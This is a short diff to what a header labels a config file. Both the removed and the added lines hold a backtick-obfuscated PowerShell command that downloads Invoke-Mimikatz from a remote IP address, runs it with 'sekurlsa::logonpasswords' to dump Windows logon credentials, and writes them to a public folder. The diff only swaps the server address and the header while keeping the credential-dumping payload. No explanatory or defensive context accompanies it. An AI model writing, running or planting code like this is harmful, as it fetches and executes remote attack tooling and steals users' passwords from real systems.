@@ -1,3 +1,3 @@
-# init 4090 v2
-IEX (Ne`w-Ob`je`ct Net.`WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
-Invo`ke-`M`imi`katz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`ile C:\Users\Public\o.txt
+# config 0227 v2
+IEX (New-Obje`ct Net.Web`C`lient).DownloadString('http://192.0.2.150/Invoke-Mimikatz.ps1')
+Inv`oke-M`im`ikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`i`le C:\Users\Public\o.txt
